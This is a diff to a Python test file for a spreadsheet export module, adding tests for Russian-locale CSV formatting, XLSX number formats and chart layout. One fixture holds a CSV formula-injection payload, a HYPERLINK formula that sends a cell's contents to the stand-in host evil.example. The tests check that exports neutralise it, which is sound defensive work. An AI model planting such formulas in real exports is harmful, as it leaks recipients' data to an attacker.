@@ -50,8 +50,8 @@ def _russian(monkeypatch: pytest.MonkeyPatch) -> None:
 # -- export ----------------------------------------------------------------------------------
 
 
-def test_csv_round_trip_with_labels() -> None:
-    data = export.to_csv_bytes(FRAME, {"name": "Менеджер", "deals": "Сделки"})
+def test_english_csv_round_trip_with_labels() -> None:
+    data = export.to_csv_bytes(FRAME, {"name": "Менеджер", "deals": "Сделки"}, lang="en")
 
     assert data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
@@ -61,6 +61,71 @@ def test_csv_round_trip_with_labels() -> None:
     assert back["Сделки"].to_list() == FRAME["deals"].to_list()
     assert back["amount"].to_list() == [95000.5, 0.01, None]
     assert back["day"].to_list() == FRAME["day"].to_list()
+
+
+def test_russian_csv_opens_in_a_russian_excel() -> None:
+    """Semicolons, a decimal comma, dd.mm.yyyy dates and a BOM: what Excel in ru-RU expects."""
+    data = export.to_csv_bytes(FRAME, {"name": "Менеджер"}, lang="ru")
+
+    assert data.startswith("\ufeff".encode())
+    text = data.decode("utf-8-sig")
+    assert text.splitlines()[0] == "Менеджер;deals;amount;share;day;at"
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[1] == ["Иванов Иван", "3", "95000,50", "0,5", "31.01.2024", "20.06.2024 02:10"]
+    assert rows[2] == ['Петрова; "Анна"', "1234567", "0,01", "", "", ""]
+    assert "," not in rows[1][1] and rows[3][3].startswith("0,333")
+
+
+HOSTILE = pl.DataFrame(
+    {
+        "partner_name": ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+7 999", "ООО Ромашка"],
+        "debt": [Decimal("-5.00"), Decimal("10.00"), Decimal("0.00")],
+    }
+)
+
+
+@pytest.mark.parametrize("lang", ["ru", "en"])
+def test_csv_text_cells_never_become_formulas(lang: str) -> None:
+    data = export.to_csv_bytes(HOSTILE, {"partner_name": "=Партнёр"}, lang=lang)
+
+    rows = list(
+        csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";" if lang == "ru" else ",")
+    )
+    assert rows[0][0] == "'=Партнёр"
+    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert rows[2][0] == "'+7 999"
+    assert rows[3][0] == "ООО Ромашка"
+    # A negative number is a number, not a formula: no apostrophe.
+    assert rows[1][1] == ("-5,00" if lang == "ru" else "-5.00")
+
+
+def test_xlsx_text_cells_never_become_formulas_and_numbers_stay_numbers() -> None:
+    data = export.to_xlsx_bytes(HOSTILE, kinds={"debt": "amount"})
+
+    rows = export.read_xlsx(data)
+    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert rows[2][0] == "'+7 999"
+    assert rows[1][1] == -5 and isinstance(rows[1][1], float | int)
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    assert sheet["A2"].data_type == "s"  # a string cell, not a formula ("f")
+    assert sheet["B2"].data_type == "n"
+
+
+def test_xlsx_number_formats_follow_the_column_kinds() -> None:
+    from openpyxl import load_workbook
+
+    data = export.to_xlsx_bytes(
+        FRAME, kinds={"deals": "int", "amount": "amount", "share": "percent", "day": "month"}
+    )
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    formats = {cell.column_letter: cell.number_format for cell in sheet[2]}
+    assert formats["B"] == "#,##0"
+    assert formats["C"] == "#,##0.00"
+    assert formats["D"] == "0.0%"
+    assert formats["E"] == "MMM YYYY"
+    assert formats["F"] == "DD.MM.YYYY HH:MM"  # by type when no kind is given
 
 
 def test_xlsx_round_trip_keeps_types() -> None:
@@ -291,9 +356,22 @@ def test_region_gis_and_forecast_charts() -> None:
     gis = charts.gis_daily_chart(daily)
     weighted = charts.forecast_chart(forecast)
 
-    assert list(bars.data[0].x) == ["Центр", "Не указано"]
-    assert list(bars.data[0].customdata) == [1, 2]
-    assert list(bars.data[1].text) == ["30,0\u00a0%", "10,0\u00a0%"]
+    # Horizontal bars (names readable on the y axis), the largest revenue on top.
+    assert bars.data[0].orientation == "h"
+    revenue_by_name = dict(zip(bars.data[0].y, bars.data[0].x, strict=True))
+    assert revenue_by_name == dict(
+        zip(["Центр", "Не указано"], regions["revenue_amount"].to_list(), strict=True)
+    )
+    assert list(bars.data[0].y) == [
+        name
+        for _, name in sorted(zip(regions["revenue_amount"], ["Центр", "Не указано"], strict=True))
+    ]
+    shares = dict(zip(bars.data[1].y, bars.data[1].text, strict=True))
+    assert shares == {"Центр": "30,0\u00a0%", "Не указано": "10,0\u00a0%"}
+    assert dict(zip(bars.data[0].y, bars.data[0].customdata, strict=True)) == {
+        "Центр": 1,
+        "Не указано": 2,
+    }
     assert isinstance(treemap.data[0], go.Treemap)
     assert [trace.name for trace in gis.data] == ["Принят", "Ошибка"]
     assert list(gis.data[1].customdata) == ["error"]
